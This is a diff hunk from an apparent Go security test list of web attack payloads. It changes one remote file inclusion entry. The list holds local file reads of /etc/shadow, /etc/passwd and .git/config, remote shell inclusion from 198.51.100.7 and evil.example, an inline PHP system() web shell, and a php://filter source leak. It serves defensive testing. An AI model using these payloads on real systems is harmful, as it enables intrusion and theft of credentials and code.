@@ -70,7 +70,7 @@ var attacks = []attack{
 	{"lfi", "repository", get("/.git/config")},
 	{"lfi", "system file in JSON", note(`file:///etc/shadow`)},
 	{"rfi", "remote file by address", query("/legacy", "id", "http://198.51.100.7/shell.txt?")},
-	{"rfi", "remote file by wrapper", query("/legacy", "id", "ftp://evil.example/c99.php?cmd=id")},
+	{"rfi", "remote file by name", query("/legacy", "id", "http://evil.example/c99.txt??")},
 	{"php", "code in the query", query("/search", "q", "<?php system($_GET['c']); ?>")},
 	{"php", "wrapper", query("/legacy", "id", "php://filter/convert.base64-encode/resource=index.php")},
 	{"php", "serialised object", contact(`O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`)},
